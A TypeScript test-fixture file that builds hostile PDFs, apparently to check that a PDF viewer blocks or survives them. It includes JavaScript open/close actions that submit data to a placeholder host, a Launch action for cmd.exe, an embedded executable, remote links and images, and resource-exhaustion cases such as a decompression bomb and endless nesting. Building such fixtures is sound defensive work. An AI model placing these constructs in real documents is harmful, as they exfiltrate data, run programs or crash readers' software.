/** PDFs that are made to harm whoever reads them, or are not what they say. */
import { deflateSync } from 'node:zlib';
import { HALF_BLACK, pagesOf, pdfOf, stream } from './a-pdf.ts';

/** Where they would send what they find. */
export const AWAY = 'https://collect.invalid';

const SCRIPT = `<< /S /JavaScript /JS (app.launchURL\\('${AWAY}/ran'\\); this.submitForm\\('${AWAY}/sent'\\);) >>`;

const squeezed = (bytes: Buffer, dict = '') => ({ dict: `/Filter /FlateDecode ${dict}`, bytes: deflateSync(bytes) });

/** A picture of 64 × 64 as a stream. */
const image = (filter: string, bytes: Buffer, more = '') => ({
  dict: `/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /${filter} ${more}`,
  bytes,
});

/** A page that first draws object 6, out of sight of what is looked at. */
const drawing = (part: { readonly dict: string; readonly bytes: Buffer }) =>
  pagesOf([{ drawn: `q 9 0 0 9 9 9 cm /X Do Q ${HALF_BLACK.drawn}` }], '', [part]);

/** A hundred kilobytes that become as many spaces as a small PC has memory for, and no line of drawing. */
const BOMB = squeezed(Buffer.alloc(100_000_000, ' '), '/Type /ObjStm /N 1000000 /First 10000000');

/** What each does in vain: its one page is drawn, white in its upper half and black in its lower. */
export const DRAWN: Readonly<Record<string, Buffer>> = {
  'runs scripts when it opens, is looked at and is closed': pagesOf(
    [{ ...HALF_BLACK, beside: `/AA << /O ${SCRIPT} /C ${SCRIPT} >>` }],
    `/OpenAction ${SCRIPT} /AA << /WC ${SCRIPT} >> /Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`,
  ),
  'starts a program': pagesOf([HALF_BLACK], '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>'),
  'brings a program along': pagesOf(
    [{ ...HALF_BLACK, beside: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [9 500 99 590] /FS 6 0 R >>]' }],
    '/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>',
    ['<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')],
  ),
  'leads elsewhere': pagesOf(
    [
      {
        ...HALF_BLACK,
        beside: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${AWAY}/link) >> >>]`,
      },
    ],
    `/OpenAction << /S /URI /URI (${AWAY}/open) >> /URI << /Base (${AWAY}/) >>`,
  ),
  'shows a picture that lies elsewhere': drawing(
    image('DCTDecode', Buffer.alloc(0), `/F << /FS /URL /F (${AWAY}/picture.jpg) >>`),
  ),
  'sends a form': pagesOf(
    [{ ...HALF_BLACK, beside: '/Annots [6 0 R]' }],
    '/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>',
    [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (Lia) /Rect [9 500 99 520] /AA << /K ${SCRIPT} >> /A << /S /SubmitForm /F (${AWAY}/form) >> >>`,
      stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.launchURL("${AWAY}/xfa")</script></xdp:xdp>`),
    ],
  ),
  'draws itself without end': drawing(
    stream('/X Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>'),
  ),
  'has JPEG 2000 that is none': drawing(image('JPXDecode', Buffer.from('0000000c6a5020200d0a870affffffff', 'hex'))),
  'has JBIG2 that is none': drawing(image('JBIG2Decode', Buffer.alloc(200, 0xff))),
  'has a JPEG that is none': drawing(image('DCTDecode', Buffer.from('ffd8ffc000110800', 'hex'))),
  'has a picture of more pixels than there are': drawing({
    ...{
      dict: '/Type /XObject /Subtype /Image /Width 900000 /Height 900000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
    },
    bytes: Buffer.alloc(9),
  }),
  'has a table before it that is itself': pointingAtItself(),
  'has a page larger than a town': pagesOf([{ ...HALF_BLACK, beside: '/UserUnit 100000000' }]),
};

/** Each is told to be unreadable, or to have no page. */
export const REFUSED: Readonly<Record<string, Buffer>> = {
  'is a first line alone': Buffer.from('%PDF-1.7'),
  'is cut off': pagesOf([HALF_BLACK]).subarray(0, 200),
  'has no page': pagesOf([]),
  'has pages that are their own parents': pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [2 0 R] >>',
  ]),
  'is nested without end': Buffer.from(`%PDF-1.7\n1 0 obj\n${'['.repeat(300_000)}`),
  'is larger than any memory once it is unpacked': pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
    BOMB,
  ]),
};

/** One page ten thousand times. */
export const TEN_THOUSAND_PAGES = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  `<< /Type /Pages /Count 10000 /Kids [${'4 0 R '.repeat(10_000)}] >>`,
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents 5 0 R >>',
  stream(HALF_BLACK.drawn),
]);

/** Draws the same three million times. */
export const ENDLESS = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
  squeezed(Buffer.from('0 0 595 842 re f '.repeat(3_000_000))),
]);

function pointingAtItself(): Buffer {
  const once = pagesOf([HALF_BLACK]).toString('latin1');
  const at = /startxref\n(?<at>\d+)/.exec(once)?.groups?.at ?? '';
  return Buffer.from(once.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${at}`), 'latin1');
}
